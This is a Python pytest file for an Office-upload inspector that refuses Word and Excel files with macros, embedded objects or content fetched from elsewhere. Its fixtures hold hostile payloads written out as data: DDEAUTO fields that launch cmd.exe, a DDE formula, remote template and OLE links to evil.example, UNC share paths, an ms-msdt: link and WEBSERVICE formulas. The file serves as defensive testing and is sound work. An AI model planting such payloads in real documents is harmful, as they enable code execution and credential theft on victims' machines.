"""Office files: refused when they have macros, hold files or fetch content; else kept."""

import io
import zipfile

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment

from forms.inspection.content import inspect_here
from forms.inspection.kinds import Rejected, Unpacked

DOCUMENT = "wordprocessingml.document.main+xml"
BOOK = "spreadsheetml.sheet.main+xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def reason(content: bytes, unpacked: int = 64_000_000) -> str:
    """Why the file is rejected; "" when it is kept."""
    try:
        inspect_here(content, ("word", "excel"), Unpacked(unpacked))
    except Rejected as error:
        return error.reason
    return ""


def office(main: str = DOCUMENT, **parts: str | bytes) -> bytes:
    """An office file by its list of content types, with these parts."""
    types = f'<Types><Override ContentType="application/vnd.openxmlformats.{main}"/></Types>'
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in {
            "[Content_Types].xml": types,
            "word/document.xml": "<w/>",
            **parts,
        }.items():
            made.writestr(name, content)
    return file.getvalue()


def relation(kind: str, target: str, mode: str = "External") -> dict[str, str]:
    return {
        "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships"><Relationship Id="rId1" Type="{REL}/{kind}" Target="{target}"'
        f' TargetMode="{mode}"/></Relationships>'
    }


def field(*codes: str) -> dict[str, str]:
    """A document with one field, whose code is cut into these pieces."""
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{at}"/></w:r>' for at in ("begin", "end"))
    return {"word/document.xml": f"<w:document {W}>{begin}{runs}{end}</w:document>"}


def formula(text: str) -> dict[str, str]:
    return {"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{text}</f></c></worksheet>"}


BOOK_INSIDE = {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": office(BOOK)}

IN_UTF_16 = f"<w:document {W}><w:instrText>DDE a</w:instrText></w:document>".encode("utf-16")

FETCHES = {
    "template elsewhere": office(**relation("attachedTemplate", "https://evil.example/a.dotm")),
    "template on a share": office(**relation("attachedTemplate", r"\\evil\share\a.dotm")),
    "picture elsewhere": office(**relation("image", "https://evil.example/a.png")),
    "frame elsewhere": office(**relation("frame", "https://evil.example/")),
    "object elsewhere": office(**relation("oleObject", "https://evil.example/a.xls")),
    "link to a share": office(**relation("hyperlink", r"file:///\\evil\share\a")),
    "link to a share in short": office(**relation("hyperlink", r"\\evil\share\a")),
    "link to a program": office(**relation("hyperlink", "ms-msdt:/id")),
    "OLE object": office(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "program inside": office(**{"word/embeddings/a.exe": b"MZ"}),
    "document in a document in a document": office(
        **{"word/embeddings/a.docx": office(**{"word/embeddings/b.docx": office(**BOOK_INSIDE)})}
    ),
    "script in a document inside": office(
        **{"word/embeddings/a.docx": office(**field(' DDEAUTO c:\\\\cmd "/k" '))}
    ),
    "page inside": office(**{"word/afchunk1.html": "<script>"}),
    "DDE field": office(**field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
    "DDE field in pieces": office(**field(" DD", "EAU", "TO c:\\\\cmd ")),
    "picture field": office(**field(' INCLUDEPICTURE "https://evil.example/a.png" \\d ')),
    "simple field": office(
        **{"word/document.xml": f'<w:document {W}><w:fldSimple w:instr=" dde a b "/></w:document>'}
    ),
    "field in another name space": office(
        **{
            "word/document.xml": f"<x:document {W.replace('xmlns:w', 'xmlns:x')}>"
            "<x:instrText>DDE a b</x:instrText></x:document>"
        }
    ),
    "field in UTF-16": office(**{"word/document.xml": IN_UTF_16}),
    "DDE link": office(BOOK, **{"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
    "DDE link anywhere": office(BOOK, **{"xl/a.xml": "<externalLink><ddeLink/></externalLink>"}),
    "DDE formula": office(BOOK, **formula("cmd|'/c calc'!A0")),
    "formula that fetches": office(BOOK, **formula("_xlfn.WEBSERVICE(A1)")),
    "formula to a share": office(BOOK, **formula('HYPERLINK("\\\\evil\\a","Vis")')),
    "connections": office(BOOK, **{"xl/connections.xml": "<connections/>"}),
    "query": office(BOOK, **{"xl/queryTables/queryTable1.xml": "<queryTable/>"}),
}


@pytest.mark.parametrize("name", FETCHES)
def test_what_fetches_or_holds_files_is_refused(name: str) -> None:
    assert reason(FETCHES[name]) == "fetches"


@pytest.mark.parametrize(
    "content",
    [
        office(**{"word/vbaProject.bin": b"x"}),
        office(**{"word/activeX/activeX1.bin": b"x"}),
        office(**{"word/embeddings/a.docx": office(**{"word/vbaProject.bin": b"x"})}),
        office("ms-word.document.macroEnabled.main+xml"),
    ],
)
def test_macros_are_refused(content: bytes) -> None:
    assert reason(content) == "macros"


KEPT = {
    "plain": office(),
    "link to a page": office(**relation("hyperlink", "https://www.udir.no/link?a=b")),
    "link to mail": office(**relation("hyperlink", "mailto:post@a.no")),
    "link in the file": office(**relation("hyperlink", "#avsnitt")),
    "own picture": office(**relation("image", "media/a.png", "Internal")),
    "page number": office(**field(" PAGE \\* MERGEFORMAT ")),
    "link with the word link": office(**field(' HYPERLINK "https://a.no/link" \\o "LINK" ')),
    "the word in the text": office(
        **{"word/document.xml": f"<w:document {W}><w:t>DDE a|b!c LINK</w:t></w:document>"}
    ),
    "workbook behind a chart": office(**BOOK_INSIDE),
    "sum": office(BOOK, **formula("SUM(A1:B2)")),
    "text with a bar": office(BOOK, **formula('IF(A1="a|b!","!","|")')),
    "printer": office(BOOK, **{"xl/printerSettings/printerSettings1.bin": b"x"}),
}


@pytest.mark.parametrize("name", KEPT)
def test_ordinary_files_are_kept(name: str) -> None:
    assert reason(KEPT[name]) == ""


def test_a_workbook_of_another_program_is_kept() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in range(1, 9):
        sheet.append([f"navn {row}", row])
    sheet["C1"] = "=SUM(B1:B8)"
    sheet["A1"].hyperlink = "https://www.bufdir.no/"
    sheet["A2"].comment = Comment("<br> hei & hå", "Kari")
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=8))
    sheet.add_chart(chart, "E1")
    file = io.BytesIO()
    book.save(file)
    assert reason(file.getvalue()) == ""


@pytest.mark.parametrize(
    "content",
    [
        office(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}),
        office(**{"word/document.xml": "<a>"}),
        office(**{"WORD/Document.xml": "<w/>"}),
    ],
)
def test_what_two_programs_could_read_in_two_ways_is_refused(content: bytes) -> None:
    assert reason(content) == "unreadable"


def test_what_unpacks_to_too_much_is_refused_whatever_it_says() -> None:
    large = office(**{"word/a.xml": b"<a>" + bytes(900_000).replace(b"\0", b" ") + b"</a>"})
    assert reason(large, 2_000_000) == ""
    assert reason(large, 500_000) == "complex"
    small_words = large.replace((900_007).to_bytes(4, "little"), (9).to_bytes(4, "little"))
    assert reason(small_words, 500_000) in ("complex", "unreadable")
